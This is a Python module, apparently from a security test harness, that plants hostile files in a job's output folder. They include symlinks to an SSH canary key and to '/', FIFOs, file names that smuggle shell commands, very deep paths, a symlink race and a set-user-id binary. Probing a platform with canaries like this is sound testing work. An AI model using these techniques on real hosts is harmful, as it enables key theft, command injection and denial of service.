"""Attacks by what is left in the output: links, FIFOs, races, names and numbers for the host to stumble over.

The run may make all of these: none is evidence. Whether the host followed one is seen in its answers.
"""

import os
import time
from collections.abc import Iterator
from pathlib import Path

from .loot import tried
from .orders import Orders, attack

FILES = ("adapter_model.safetensors", "README.md", "all_results.json", "training_loss.png", "trainer_state.json")
MANY = 2_000
DEEP = 300
RACE_SECONDS = 3.0
OWN = "canary-own-0123456789abcdef"
"""The attacker's own, which the API may serve: that shows that it is asked in the right way."""


@attack
def links_to_files(orders: Orders) -> Iterator[str]:
    """Files that are usually there, as links to a key."""
    for name in FILES:
        with tried(f"link {name}"):
            os.symlink(f"{orders.home}/.ssh/id_canary", orders.output / name)
    yield from ()


@attack
def links_to_folders(orders: Orders) -> Iterator[str]:
    """Checkpoints and folders as links: to the home, to other jobs, to the whole tree."""
    targets = {"checkpoint-5": f"{orders.home}/.ssh", "home": orders.home, "all": "/", "jobs": f"{orders.root}/jobs"}
    for name, target in targets.items():
        with tried(f"link {name}"):
            os.symlink(target, orders.output / name)
    (orders.output / "checkpoint-6").mkdir(exist_ok=True)
    with tried("link inside a checkpoint"):
        os.symlink(f"{orders.home}/.ssh/id_canary", orders.output / "checkpoint-6/trainer_state.json")
    yield from ()


@attack
def pipes(orders: Orders) -> Iterator[str]:
    """FIFOs where the host reads: an open without O_NONBLOCK waits for ever."""
    for name in ("trainer_log.jsonl", "eval_results.json", "tokenizer.json"):
        with tried(f"make {name}"):
            os.mkfifo(orders.output / name)
    yield from ()


@attack
def names(orders: Orders) -> Iterator[str]:
    """Names with line ends, escapes, bytes that are no UTF-8, and shell."""
    mark = orders.mark("names").replace("escaped", "esca''ped")  # as a shell would read it: the name itself is listed
    texts = [b"a\nb", b"\x1b[31mred", b"\xff\xfe", b"-rf", f"$(touch {mark})".encode(), b"`id`", b"'\"", b" ", b"..."]
    for text in texts:
        with tried(f"make {text!r}"):
            Path(os.fsdecode(os.fsencode(orders.output) + b"/" + text)).write_text("x")
    (orders.output / "own.txt").write_text(OWN)
    yield from ()


@attack
def many_files(orders: Orders) -> Iterator[str]:
    """More files than anybody lists."""
    folder = orders.output / "many"
    folder.mkdir(exist_ok=True)
    directory = os.open(folder, os.O_RDONLY)
    for number in range(MANY):
        os.close(os.open(f"{number:06d}", os.O_CREAT | os.O_WRONLY, dir_fd=directory))
    yield from ()


@attack
def deep_folders(orders: Orders) -> Iterator[str]:
    """A path longer than PATH_MAX."""
    os.chdir(orders.output)
    for _ in range(DEEP):
        os.mkdir("deeper-and-deeper")
        os.chdir("deeper-and-deeper")
    yield from ()


@attack
def race(orders: Orders) -> Iterator[str]:
    """A name that is by turns a file and a link to a key, a folder and a link to the home, while the host looks."""
    file, folder = orders.output / "race.json", orders.output / "race"
    spare_file, spare_folder = orders.output / "race.spare", orders.output / "race.folder"
    folder.mkdir(exist_ok=True)
    (folder / "id_canary").write_text("own")
    os.symlink(f"{orders.home}/.ssh", spare_folder)
    deadline = time.monotonic() + RACE_SECONDS
    while time.monotonic() < deadline:
        spare_file.write_text(OWN)
        os.replace(spare_file, file)
        os.symlink(f"{orders.home}/.ssh/id_canary", spare_file)
        os.replace(spare_file, file)
        os.rename(folder, orders.output / "race.away")
        os.rename(spare_folder, folder)
        os.rename(folder, spare_folder)
        os.rename(orders.output / "race.away", folder)
    yield from ()


@attack
def setuid_file(orders: Orders) -> Iterator[str]:
    """A set-user-id program, for whoever copies the output."""
    program = orders.output / "setuid"
    program.write_bytes(Path("/bin/true").read_bytes())
    with tried("set-user-id"):
        program.chmod(0o6755)
    yield from ()
